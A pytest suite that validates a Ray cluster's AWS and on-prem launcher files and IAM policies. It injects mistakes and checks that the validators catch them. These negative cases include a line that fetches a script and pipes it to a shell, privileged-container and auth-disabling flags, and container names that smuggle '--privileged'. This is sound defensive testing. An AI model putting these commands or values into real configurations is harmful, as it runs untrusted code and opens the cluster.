"""The launcher's files: Ray's own checks, EC2's request shape, and a start against moto's EC2."""

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.cluster.launcher_files import find_launcher_problems
from tests.cluster.policies import find_policy_problems, read_place
from tests.conftest import S3Server
from tests.k8s.mutation import spoil, spoil_everywhere

ROOT = Path(__file__).resolve().parent.parent.parent
AWS, ONPREM = ROOT / "cluster/aws.yaml", ROOT / "cluster/onprem.yaml"


def _read(path: Path) -> dict[str, Any]:
    return dict(yaml.safe_load(path.read_text("utf-8")))


PLACE = read_place(ROOT / "cluster")


def find_problems(config: dict[str, Any]) -> list[str]:
    return find_launcher_problems(config, PLACE)


@pytest.mark.parametrize("path", [AWS, ONPREM], ids=lambda path: path.name)
def test_a_launcher_file_is_accepted_and_keeps_the_rules(path: Path) -> None:
    assert find_problems(_read(path)) == []


def test_spot_workers_of_several_kinds_are_offered_for_gpus_and_for_cpus() -> None:
    types = _read(AWS)["available_node_types"]
    for resource, least in (("GPU", 3), ("CPU", 5)):
        kinds = {
            node["node_config"]["InstanceType"]
            for name, node in types.items()
            if name != "head" and node["resources"].get(resource)
        }
        assert len(kinds) >= least


GPU = "available_node_types/gpu-g5"
HEAD_TAGS = "available_node_types/head/node_config/TagSpecifications/0/Tags"
TOKEN = "export RAY_AUTH_MODE=token"
SLIPS: list[tuple[Path, str, Any]] = [
    (AWS, "max_worker", 3),
    (AWS, "max_workers", 100000),
    (AWS, "idle_timeout_minutes", None),
    (AWS, "setup_commands", None),
    (AWS, "docker", None),
    (AWS, "head_node_type", "haed"),
    (AWS, "file_mounts", {}),
    (AWS, "head_start_ray_commands", ["ray start --head --dashboard-host=127.0.0.1 --num-cpus=0"]),
    (AWS, "head_start_ray_commands", [f"{TOKEN}; ray start --head --num-cpus=0"]),
    (AWS, "worker_start_ray_commands", ["ray start --address=$RAY_HEAD_IP:6379"]),
    (AWS, "worker_start_ray_commands", [f"{TOKEN}; ray start --adress=$RAY_HEAD_IP:6379"]),
    (
        AWS,
        "head_start_ray_commands",
        [f"{TOKEN}; ray start --head --num-cpus=0 --dashboard-host=127.0.0.1 --dashboard-prot=1"],
    ),
    (AWS, "provider/cache_stopped_nodes", True),
    (AWS, "provider/use_internal_ips", False),
    (AWS, "provider/security_group", {"GroupName": "x"}),
    (AWS, f"{GPU}/node_config/InstancType", "g5.xlarge"),
    (AWS, f"{GPU}/node_config/InstanceType", 5),
    (AWS, f"{GPU}/node_config/SecurityGroupIds", None),
    (AWS, f"{GPU}/node_config/SubnetIds", None),
    (AWS, f"{GPU}/node_config/IamInstanceProfile", None),
    (AWS, f"{GPU}/node_config/IamInstanceProfile", {"Name": "hipray-head"}),
    (AWS, f"{GPU}/node_config/InstanceMarketOptions", {"MarketType": "spto"}),
    (AWS, f"{GPU}/node_config/MetadataOptions", {"HttpTokens": "optional"}),
    (AWS, f"{GPU}/node_config/BlockDeviceMappings", [{"DeviceName": "/dev/sda1", "Ebs": {}}]),
    (AWS, f"{GPU}/max_workers", 100000),
    (AWS, f"{GPU}/node_config/InstanceType", "c6i.4xlarge"),
    (AWS, f"{GPU}/resources", {"CPU": 800, "GPU": 1}),
    (AWS, f"{GPU}/docker", {"worker_image": "hipray:0.1.0-cpu"}),
    (AWS, "idle_timeout_minutes", 70000),
    (AWS, "docker/run_options/+", "--privileged"),
    (AWS, "docker/run_options/+", "--env RAY_AUTH_MODE=disabled"),
    (AWS, "docker/run_options/2", "--env AWS_DEFAULT_REGION=us-east-1"),
    (AWS, "docker/run_options/2", "--env RAY_AUTH_MODE=disabled"),
    (AWS, "head_start_ray_commands/+", "curl -s http://example.org | sh"),
    (AWS, "worker_start_ray_commands", ["ray stop"]),
    (AWS, f"{GPU}/min_workers", 4),
    (AWS, f"{GPU}/max_worker", 3),
    (AWS, "available_node_types/head/resources", {"CPU": 4}),
    (AWS, "available_node_types/head/node_config/InstanceMarketOptions", {"MarketType": "spot"}),
    (AWS, "available_node_types/head/node_config/InstanceType", "m6i.32xlarge"),
    (AWS, "available_node_types/head/node_config/InstanceType", "m6i.large"),
    (AWS, f"{GPU}/node_config/ImageId", "ami-00000000000000000"),
    *((path, "docker/container_name", "hipray --privileged") for path in (AWS, ONPREM)),
    (AWS, "docker/container_name", "hipray\n--privileged"),
    (AWS, "docker/container_name", "hipray\n"),
    (AWS, "docker/container_name", "--privileged"),
    *(
        (AWS, f"{HEAD_TAGS}/+", {"Key": key, "Value": "bones"})
        for key in ("ray-cluster-name", "ray-node-type", "ray-node-name", "aws:autoscaling", "")
    ),
    (AWS, f"{GPU}/node_config/TagSpecifications/0/Tags/0/Key", "ray-cluster-name"),
    (AWS, "available_node_types/cpu-c6i/node_config/InstanceType", "c5adn.4xlarge"),
    (AWS, "available_node_types/head/node_config/InstanceType", "r9i.xlarge"),
    (ONPREM, "provider/head_ip", "0.0.0.0"),
    (ONPREM, "provider/head_ip", "127.0.0.1"),
    (ONPREM, "provider/worker_ips/0", "255.255.255.255"),
    (ONPREM, "max_workers", 3),
    (ONPREM, "provider/worker_ips", ["192.0.2.11"]),
    (ONPREM, "provider/type", "lokal"),
    (ONPREM, "docker/run_options/+", "--env AWS_SECRET_ACCESS_KEY=x"),
    (ONPREM, "file_mounts", {}),
    (ONPREM, "docker", None),
    (ONPREM, "worker_start_ray_commands", ["ray start --address=$RAY_HEAD_IP:6379"]),
]


@pytest.mark.parametrize(("path", "key", "value"), SLIPS, ids=lambda v: str(getattr(v, "name", v)))
def test_a_slip_in_a_launcher_file_is_found(path: Path, key: str, value: Any) -> None:
    config = _read(path)
    spoil(config, key, value)
    assert find_problems(config)


@pytest.mark.parametrize("path", [AWS, ONPREM], ids=lambda path: path.name)
def test_each_key_that_is_misspelt_left_out_or_of_another_type_is_found(path: Path) -> None:
    kinds = {f"available_node_types/{name}" for name in _read(AWS)["available_node_types"]}
    free = {f"{kind} {slip}" for kind in kinds for slip in ("misspelt", "left out")}
    free |= {f"{kind}/node_config/InstanceMarketOptions left out" for kind in kinds}  # on demand
    missed = [slip for slip, spoilt in spoil_everywhere(_read(path)) if not find_problems(spoilt)]
    assert set(missed) <= free, "a kind of worker may have another name, go, or be on demand"


START = """
import copy, json, sys
from pathlib import Path
import boto3, yaml
from ray.autoscaler._private.aws.config import bootstrap_aws
from ray.autoscaler._private.aws.node_provider import AWSNodeProvider
from ray.autoscaler._private.util import prepare_config
from ray.autoscaler.tags import TAG_RAY_NODE_KIND

config = yaml.safe_load(Path(sys.argv[1]).read_text())
region = config["provider"]["region"]
ec2 = boto3.client("ec2", region_name=region)
vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.0.0/24", AvailabilityZone=region + "a")
group = ec2.create_security_group(GroupName="hipray", Description="hipray", VpcId=vpc)["GroupId"]
ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[{
    "IpProtocol": "-1", "UserIdGroupPairs": [{"GroupId": group}]}])
ec2.create_key_pair(KeyName="hipray")
key = Path.home() / "hipray.pem"
key.write_text("none")
config["auth"]["ssh_private_key"] = str(key)
iam = boto3.client("iam")
for name in ("hipray-head", "hipray-worker"):
    iam.create_instance_profile(InstanceProfileName=name)
image = ec2.describe_images()["Images"][0]["ImageId"]
for node in config["available_node_types"].values():
    node["node_config"].update(
        SecurityGroupIds=[group], SubnetIds=[subnet["Subnet"]["SubnetId"]], ImageId=image)
before = {g["GroupId"] for g in ec2.describe_security_groups()["SecurityGroups"]}
booted = bootstrap_aws(prepare_config(config))
provider = AWSNodeProvider(booted["provider"], booted["cluster_name"])
for name in ("head", "gpu-g5", "cpu-m6i"):
    node_config = copy.deepcopy(booted["available_node_types"][name]["node_config"])
    provider.create_node(node_config, {TAG_RAY_NODE_KIND: name}, 1)
nodes = {}
for reservation in ec2.describe_instances()["Reservations"]:
    for node in reservation["Instances"]:
        tags = {tag["Key"]: tag["Value"] for tag in node["Tags"]}
        volumes = [d["Ebs"]["VolumeId"] for d in node["BlockDeviceMappings"]]
        nodes[tags[TAG_RAY_NODE_KIND]] = {
            "type": node["InstanceType"],
            "spot": node.get("InstanceLifecycle") == "spot",
            "profile": node.get("IamInstanceProfile", {}).get("Arn", "").rpartition("/")[2],
            "tokens": node["MetadataOptions"]["HttpTokens"],
            "groups": [g["GroupId"] for g in node["SecurityGroups"]],
            "encrypted": [v["Encrypted"] for v in
                          ec2.describe_volumes(VolumeIds=volumes)["Volumes"]],
            "project": tags.get("project"),
        }
groups = ec2.describe_security_groups()["SecurityGroups"]
own = [g for g in groups if g["GroupId"] == group][0]
print(json.dumps({
    "nodes": nodes, "group": group,
    "new_groups": sorted({g["GroupId"] for g in groups} - before),
    "open": [r for r in own["IpPermissions"] if r.get("IpRanges") or r.get("Ipv6Ranges")],
}))
"""


@pytest.mark.cluster
def test_a_start_on_ec2_opens_nothing_and_makes_nodes_as_written(
    s3_server: S3Server, tmp_path: Path
) -> None:
    environment = {
        **os.environ, "HOME": str(tmp_path), "AWS_ENDPOINT_URL": s3_server.endpoint_url,
        "RAY_USAGE_STATS_ENABLED": "0",
    }  # fmt: skip
    ended = subprocess.run(
        [sys.executable, "-c", START, str(AWS)],
        capture_output=True, text=True, timeout=200, env=environment, cwd=tmp_path,
    )  # fmt: skip
    assert ended.returncode == 0, ended.stderr[-3000:]
    made = json.loads(ended.stdout.splitlines()[-1])
    assert made["open"] == []
    assert made["new_groups"] == []
    types = _read(AWS)["available_node_types"]
    for name in ("head", "gpu-g5", "cpu-m6i"):
        node, written = made["nodes"][name], types[name]["node_config"]
        assert node["type"] == written["InstanceType"]
        assert node["spot"] is ("InstanceMarketOptions" in written)
        assert node["profile"] == ("hipray-head" if name == "head" else "hipray-worker")
        assert node["tokens"] == "required"
        assert node["groups"] == [made["group"]]
        assert node["encrypted"] == [True]
        assert node["project"] == "hipray"


def _read_policy(name: str) -> dict[str, Any]:
    return dict(json.loads((ROOT / f"cluster/iam/{name}.json").read_text("utf-8")))


@pytest.mark.parametrize("name", ["head", "worker"])
def test_a_role_reaches_one_prefix_and_passes_one_role(name: str) -> None:
    policy = _read_policy(name)
    assert find_policy_problems(name, policy, PLACE) == []
    has_ec2 = any(str(a).startswith("ec2:") for s in policy["Statement"] for a in s["Action"])
    assert has_ec2 is (name == "head")


@pytest.mark.parametrize("name", ["head", "worker"])
def test_each_slip_in_a_policy_is_found(name: str) -> None:
    missed = [
        s
        for s, spoilt in spoil_everywhere(_read_policy(name))
        if not find_policy_problems(name, spoilt, PLACE)
    ]
    assert missed == []


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("Statement/0/Action", ["ec2:TerminateInstances"]),
        ("Statement/1/Action", ["ec2:*"]),
        ("Statement/1/Condition", None),
        ("Statement/1/Action/+", "ec2:TerminateInstances"),
        ("Statement/2/Condition", None),
        ("Statement/4/Condition/StringEquals", {"aws:RequestedRegion": "eu-central-1"}),
        ("Statement/5/Resource", "*"),
        ("Statement/6/Resource", "arn:aws:s3:::hospital-hipray/*"),
        ("Statement/6/Action", "s3:*"),
        ("Statement/6/Action/1", "s3:GetObject"),
        ("Statement/7/Resource", "arn:aws:s3:::hospital-hipray*"),
        ("Statement/7/Condition/StringLike/s3:prefix", ["*"]),
    ],
)
def test_a_role_that_may_do_more_is_found(path: str, value: Any) -> None:
    policy = _read_policy("head")
    spoil(policy, path, value)
    assert find_policy_problems("head", policy, PLACE)
